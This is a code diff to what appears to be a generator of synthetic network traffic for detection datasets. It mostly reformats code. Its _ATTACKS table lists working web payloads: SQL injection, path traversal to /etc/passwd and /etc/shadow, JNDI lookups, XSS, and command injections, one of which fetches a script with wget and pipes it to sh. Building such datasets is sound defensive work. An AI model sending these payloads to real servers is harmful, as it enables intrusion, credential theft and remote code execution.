@@ -22,11 +22,11 @@ def newcomer(place: Place, variant: str) -> None:
         with sheet.about("newcomer", variant, new, [site.one("gateway")]):
             _device(place, new, begin)
     elif variant == "service":
-        clients = place.numbers([one for one in site.people if one != host])
+        others = [one for one in site.people if one != host]
         at = np.sort(random.uniform(begin, place.end, int(random.integers(5, 40))))
         port = int(random.choice([21, 8000, 5900, 3306, 1080]))
-        with sheet.about("newcomer", variant, host, [site.prefix + "0/24"]):
-            sheet.tcp(at, random.choice(clients, len(at)), number, port, heavy(random, 400, 0.6, len(at)),
+        with sheet.about("newcomer", variant, host, others):
+            sheet.tcp(at, random.choice(place.numbers(others), len(at)), number, port, heavy(random, 400, 0.6, len(at)),
                       heavy(random, 5000, 1.2, len(at)))  # fmt: skip
     elif variant == "peer":
         at = np.sort(random.uniform(begin, place.end, int(random.integers(3, 30))))
@@ -97,18 +97,45 @@ def odd_protocol(place: Place, variant: str) -> None:
 
 
 _ATTACKS: dict[str, tuple[str, ...]] = {
-    "sql": ("id=1%27%20OR%20%271%27%3D%271", "id=-1+UNION+SELECT+{n},user,password+FROM+users--+",
-            "id=1;WAITFOR+DELAY+%270:0:{n}%27--", "q=%27%29+AND+SLEEP%28{n}%29--+", "id=1+AND+ORD(MID((SELECT+{n}),1,1))>64",
-            "name=admin%27--", "id={n}+order+by+{n}--", "id=1%27+AND+EXTRACTVALUE({n},CONCAT(0x5c,version()))--+"),
-    "traversal": ("file=../../../../etc/passwd", "page=..%2f..%2f..%2f..%2fetc%2fshadow", "f=....//....//etc/hosts&n={n}",
-                  "path=..%5c..%5c..%5cwindows%5cwin.ini", "doc=%252e%252e%252fetc%252fpasswd", "img=/../../boot.ini"),
-    "jndi": ("x=${{jndi:ldap://203.0.113.{m}/a{n}}}", "x=${{jndi:dns://{n}.probe.example/}}",
-             "x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.{m}%3A1389%2Fb%7D", "x=${{${{lower:j}}ndi:ldap://192.0.2.{m}/{n}}}"),
-    "command": ("host=127.0.0.1;cat+/etc/passwd", "cmd=%3Bwget+http://192.0.2.{m}/x.sh+-O-%7Csh", "ip=1.1.1.1%7Cid&n={n}",
-                "name=$(curl+http://203.0.113.{m}/{n})", "dir=`uname+-a`", "exec=/bin/sh+-c+id"),
-    "xss": ("q=%3Cscript%3Ealert({n})%3C/script%3E", "q=%22%3E%3Cimg+src=x+onerror=alert({n})%3E",
-            "name=<svg/onload=alert({n})>", "u=javascript:alert({n})"),
-}  # fmt: skip
+    "sql": (
+        "id=1%27%20OR%20%271%27%3D%271",
+        "id=-1+UNION+SELECT+{n},user,password+FROM+users--+",
+        "id=1;WAITFOR+DELAY+%270:0:{n}%27--",
+        "q=%27%29+AND+SLEEP%28{n}%29--+",
+        "id=1+AND+ORD(MID((SELECT+{n}),1,1))>64",
+        "name=admin%27--",
+        "id={n}+order+by+{n}--",
+        "id=1%27+AND+EXTRACTVALUE({n},CONCAT(0x5c,version()))--+",
+    ),
+    "traversal": (
+        "file=../../../../etc/passwd",
+        "page=..%2f..%2f..%2f..%2fetc%2fshadow",
+        "f=....//....//etc/hosts&n={n}",
+        "path=..%5c..%5c..%5cwindows%5cwin.ini",
+        "doc=%252e%252e%252fetc%252fpasswd",
+        "img=/../../boot.ini",
+    ),
+    "jndi": (
+        "x=${{jndi:ldap://203.0.113.{m}/a{n}}}",
+        "x=${{jndi:dns://{n}.probe.example/}}",
+        "x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.{m}%3A1389%2Fb%7D",
+        "x=${{${{lower:j}}ndi:ldap://192.0.2.{m}/{n}}}",
+    ),
+    "command": (
+        "host=127.0.0.1;cat+/etc/passwd",
+        "cmd=%3Bwget+http://192.0.2.{m}/x.sh+-O-%7Csh",
+        "ip=1.1.1.1%7Cid&n={n}",
+        "name=$(curl+http://203.0.113.{m}/{n})",
+        "dir=`uname+-a`",
+        "exec=/bin/sh+-c+id",
+    ),
+    "xss": (
+        "q=%3Cscript%3Ealert({n})%3C/script%3E",
+        "q=%22%3E%3Cimg+src=x+onerror=alert({n})%3E",
+        "name=<svg/onload=alert({n})>",
+        "u=javascript:alert({n})",
+    ),
+}
 """What is sent to make a server do what it should not; {n} and {m} are drawn."""
 
 
@@ -129,13 +156,18 @@ def web_attack(place: Place, variant: str) -> None:
     web = site.one("web")
     with place.sheet.about("web_attack", variant, host, [web]):
         place.sheet.http(
-            at, place.number(host), place.number(web), 80, host=["intranet.example"] * n,
+            at,
+            place.number(host),
+            place.number(web),
+            80,
+            host=["intranet.example"] * n,
             path=[f"{page}?{part}" if w == "path" else page for page, part, w in zip(pages, parts, where, strict=True)],
             agent=[part if w == "agent" else own for part, w in zip(parts, where, strict=True)],
             body=[part if w == "body" else "" for part, w in zip(parts, where, strict=True)],
             method=["POST" if w == "body" else "GET" for w in where],
-            status=random.choice([200, 403, 404, 500], n, p=[0.4, 0.2, 0.2, 0.2]), into=heavy(random, 1500, 0.8, n, 1e6),
-        )  # fmt: skip
+            status=random.choice([200, 403, 404, 500], n, p=[0.4, 0.2, 0.2, 0.2]),
+            into=heavy(random, 1500, 0.8, n, 1e6),
+        )
 
 
 def lateral_movement(place: Place, variant: str) -> None:
